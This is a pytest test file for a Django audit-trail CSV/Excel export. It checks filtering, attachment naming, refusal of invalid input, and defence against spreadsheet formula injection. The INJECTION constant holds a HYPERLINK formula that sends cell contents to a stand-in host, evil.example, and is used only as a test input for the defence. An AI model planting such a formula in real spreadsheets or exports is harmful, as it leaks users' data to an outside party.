"""The audit trail exports to CSV and Excel with the list's filters, safe in a spreadsheet."""

import csv
import io
import json

import pytest
from django.http import FileResponse, StreamingHttpResponse
from django.urls import reverse
from openpyxl import load_workbook

from dti.agencies.models import Role
from dti.audit.exports import neutralise
from tests.audit.helpers import hanoi_time, make_event
from tests.factories import make_agency, make_user

pytestmark = pytest.mark.django_db

INJECTION = '=HYPERLINK("http://evil.example/?leak="&A1,"Click")'


@pytest.fixture
def coordinator(client):
    user = make_user(Role.COORDINATOR)
    client.force_login(user)
    return user


@pytest.fixture
def events():
    """Two events of SYT (one with a formula as its reason) and one of another agency."""
    health = make_agency("SYT", name="Sở Y tế")
    actor = make_user(Role.AGENCY_LEADER, agency=health, username="lanhdao.syt")
    actor.full_name = "Nguyễn Thị Lan"
    actor.save()
    injected = make_event(
        actor=actor,
        action="assessment.extension",
        object_type="assessments.assessment",
        object_id="5",
        object_repr="DTI 2025 — Sở Y tế",
        agency=health,
        before={"status": "submitted"},
        after={"status": "draft", "until": "2025-12-01"},
        reason=INJECTION,
        ip_address="203.0.113.9",
        at=hanoi_time(2025, 11, 25, 0, 10, 5),
    )
    plain = make_event(
        agency=health, action="response.save", reason="-1 point", at=hanoi_time(2025, 11, 20, 8)
    )
    other = make_event(agency=make_agency("CA"), action="response.save")
    return {"injected": injected, "plain": plain, "other": other, "health": health}


def read_csv(response) -> list[list[str]]:
    assert isinstance(response, StreamingHttpResponse)
    content = b"".join(response.streaming_content)
    assert content.startswith(b"\xef\xbb\xbf")  # the BOM Excel needs to read UTF-8
    return list(csv.reader(io.StringIO(content.decode("utf-8-sig"))))


def read_xlsx(response) -> list[list[str]]:
    assert isinstance(response, FileResponse)
    workbook = load_workbook(io.BytesIO(b"".join(response.streaming_content)))
    sheet = workbook.active
    for row in sheet.iter_rows(min_row=2):
        assert all(cell.data_type != "f" for cell in row)  # nothing is a formula
    return [["" if value is None else value for value in row] for row in sheet.values]


def export(client, file_format, **query):
    response = client.get(reverse("audit:export"), {"format": file_format, **query})
    assert response.status_code == 200
    return read_csv(response) if file_format == "csv" else read_xlsx(response)


@pytest.mark.parametrize("file_format", ["csv", "xlsx"])
def test_the_export_has_the_filtered_events_with_every_column(
    client, coordinator, events, file_format
):
    rows = export(client, file_format, agency=events["health"].pk)
    assert len(rows) == 1 + 2  # the header and the two SYT events, newest first
    injected = rows[1]
    assert injected[:9] == [
        "2025-11-25T00:10:05+07:00",
        "lanhdao.syt",
        "Nguyễn Thị Lan",
        "203.0.113.9",
        "assessment.extension",
        "assessments.assessment",
        "5",
        "DTI 2025 — Sở Y tế",
        "SYT",
    ]
    assert json.loads(injected[9]) == {"status": "submitted"}
    assert json.loads(injected[10]) == {"status": "draft", "until": "2025-12-01"}
    assert rows[2][4] == "response.save"


@pytest.mark.parametrize("file_format", ["csv", "xlsx"])
def test_a_formula_typed_as_a_reason_arrives_as_text(client, coordinator, events, file_format):
    rows = export(client, file_format, agency=events["health"].pk)
    assert rows[1][11] == "'" + INJECTION
    assert rows[2][11] == "'-1 point"


@pytest.mark.parametrize("file_format", ["csv", "xlsx"])
def test_the_export_applies_the_time_and_text_filters(client, coordinator, events, file_format):
    rows = export(client, file_format, date_from="25/11/2025", date_to="25/11/2025")
    assert [row[4] for row in rows[1:]] == ["assessment.extension"]
    rows = export(client, file_format, reason="point", user="")
    assert [row[11] for row in rows[1:]] == ["'-1 point"]


def test_the_files_are_named_as_attachments(client, coordinator, events):
    for file_format in ("csv", "xlsx"):
        response = client.get(reverse("audit:export"), {"format": file_format})
        assert response["Content-Disposition"].startswith("attachment;")
        assert f'.{file_format}"' in response["Content-Disposition"]


def test_an_invalid_filter_refuses_the_export_and_names_the_filter(client, coordinator, events):
    response = client.get(
        reverse("audit:export"), {"format": "csv", "date_from": "2025-13-45", "agency": "x"}
    )
    assert response.status_code == 400
    assert response.content.decode().count("\n") == 1  # one line per invalid filter


def test_an_unknown_format_is_refused(client, coordinator):
    response = client.get(reverse("audit:export"), {"format": "pdf"})
    assert response.status_code == 400
    assert "pdf" in response.content.decode()


@pytest.mark.parametrize("text", ["=1+1", "+1", "-1", "@SUM(A1)", "\t=1", "\r=1"])
def test_every_formula_trigger_gets_a_quote_in_front(text):
    assert neutralise(text) == "'" + text


@pytest.mark.parametrize("text", ["", "Sở Y tế", "1+1", "a=b", "'=quoted"])
def test_other_text_is_kept_as_it_is(text):
    assert neutralise(text) == text


def test_a_control_character_cannot_hide_a_formula_in_excel(client, coordinator):
    make_event(reason="\x01=1+1")
    rows = export(client, "xlsx")
    assert rows[1][11] == "'=1+1"
